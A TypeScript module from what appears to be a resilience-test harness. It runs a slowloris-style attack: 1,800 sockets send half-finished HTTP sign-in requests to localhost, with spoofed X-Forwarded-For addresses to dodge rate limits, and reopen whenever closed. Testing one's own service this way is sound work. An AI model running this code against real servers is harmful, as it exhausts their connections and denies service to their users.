import { once } from 'node:events'
import net from 'node:net'
import { freshAddress, type Attack } from './attack.ts'

const HELD = 1800

const halfOf = (head: string): string =>
  `POST ${head} HTTP/1.1\r\nHost: localhost:3000\r\nX-Forwarded-For: ${freshAddress()}\r\n`

const HALVES = [
  () => halfOf('/api/sign-in'), // the head never ends
  () => `${halfOf('/api/sign-in')}Content-Type: application/json\r\nContent-Length: 1000\r\n\r\n{"email":`,
  () =>
    `${halfOf(`/r/${'x'.repeat(22)}`)}Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 1000\r\n\r\nresponse=`,
]

/** Requests that begin and never end. Each one closed by the server is started again. */
export const halfSent: Attack = ({ port }, stop) =>
  Promise.all(
    Array.from({ length: HELD }, async (_, at) => {
      while (!stop.aborted) {
        const socket = net.connect(port, '127.0.0.1')
        const destroy = () => socket.destroy()
        stop.addEventListener('abort', destroy, { once: true })
        socket.on('error', () => {}) // 'close' follows
        socket.resume()
        socket.write(HALVES[at % HALVES.length]?.() ?? '')
        await once(socket, 'close')
        stop.removeEventListener('abort', destroy)
      }
    }),
  )
